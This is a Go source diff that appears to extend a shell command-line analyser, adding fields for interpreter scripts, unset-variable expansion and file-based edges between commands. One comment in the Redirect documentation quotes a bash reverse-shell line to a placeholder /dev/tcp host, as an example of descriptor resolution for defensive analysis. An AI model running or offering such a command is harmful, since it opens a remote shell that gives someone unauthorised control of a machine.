@@ -57,6 +57,10 @@ type Command struct {
 	Background bool
 	// Builtin says that the program is the shell's own (eval, cd, trap, …).
 	Builtin bool
+	// Script is the code that is given to an interpreter which is not a shell
+	// (python -c, perl -e, node <<EOF, awk 'BEGIN{…}'), at most 16 KiB; "" when there
+	// is none. What is unknown of it is Unknown.
+	Script string
 }
 
 // Word is one word, resolved.
@@ -72,6 +76,10 @@ type Word struct {
 	// Quoted says that the whole word was quoted in the source, so that it was
 	// meant as text.
 	Quoted bool
+	// IfUnset is what the word would be if the variables in it which the command
+	// line does not assign were unset: of "$BUILD_ROOT/" it is "/". It is "" when there
+	// are none, or nothing would be left.
+	IfUnset string
 }
 
 // Unknown stands in a Word's Value for what cannot be told. No command line can
@@ -113,7 +121,9 @@ type Assign struct {
 	Value Word
 }
 
-// Redirect connects a descriptor with a file.
+// Redirect connects a descriptor with a file. A descriptor that is a duplicate of
+// one whose file is known has that file: after exec 3>/dev/tcp/h/1 a command's >&3
+// is > /dev/tcp/h/1, and in `bash -i >&/dev/tcp/h/1 0>&1` descriptor 0 reads from it.
 type Redirect struct {
 	FD   int    // 0 for <, 1 for >; -1 when it is {name}>
 	Op   string // <, >, >>, <>, &>, >|, <&, >&
@@ -143,6 +153,7 @@ const (
 	EdgeArgument EdgeKind = "argument" // into its arguments: $(…), xargs, a variable that was read
 	EdgeVariable EdgeKind = "variable" // through a variable, into its arguments or its environment
 	EdgeProcess  EdgeKind = "process"  // through the file name of <(…) or >(…)
+	EdgeFile     EdgeKind = "file"     // through a file that the first writes and the second reads or runs
 )
 
 // Opacity is a reason why something cannot be told.
